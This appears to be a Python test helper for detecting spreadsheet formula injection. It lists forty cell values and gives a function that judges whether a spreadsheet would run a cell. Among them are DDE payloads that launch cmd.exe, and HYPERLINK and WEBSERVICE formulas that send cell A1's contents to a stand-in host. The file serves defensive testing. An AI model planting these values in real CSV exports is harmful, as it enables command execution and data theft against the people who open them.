"""Texts a spreadsheet would run: forty in every way we know of, and a second opinion on what a file makes of them."""

import unicodedata

FORTY = (
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)"),  # the four signs
    *("\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1"),  # behind what a reader skips
    *("＝1+1", "＋1+1", "－1+1", "＠SUM(A1)"),  # full-width and small signs
    *("﹦1+1", "﹢1+1", "﹣1+1", "﹫SUM(A1)"),
    *("\ufeff=1+1", " =1+1", "  +1+1", "\u00a0=1+1", "\u3000=1+1"),  # behind a mark or a space
    *("\u200b=1+1", "\u200d@SUM(A1)", "\u2060-1+1", "\u202e=1+1", "\u2066=1+1", "\u00ad=1+1", "\u061c+1+1"),
    *("'=1+1", "''=1+1"),  # guarded by somebody else already
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("http://example.org/?x="&A1,"Open")',
    '=WEBSERVICE("http://example.org/"&A1)',
    '=IMPORTXML("http://example.org","//a")',
    "+44 116 496 0000",
)
SIGNS = frozenset("=+-@")
NEW_CELL = frozenset("\t\r\n")  # a careless reader starts another cell there


def runs(cell: str) -> bool:
    """Would some spreadsheet run this cell of a CSV file? Worked out anew, from what Unicode says of each sign."""
    for sign in cell:
        if sign == "'":
            return False
        if sign in NEW_CELL or unicodedata.normalize("NFKC", sign) in SIGNS:
            return True
        if unicodedata.category(sign) not in {"Cc", "Cf", "Zs", "Zl", "Zp"}:
            return False
    return False
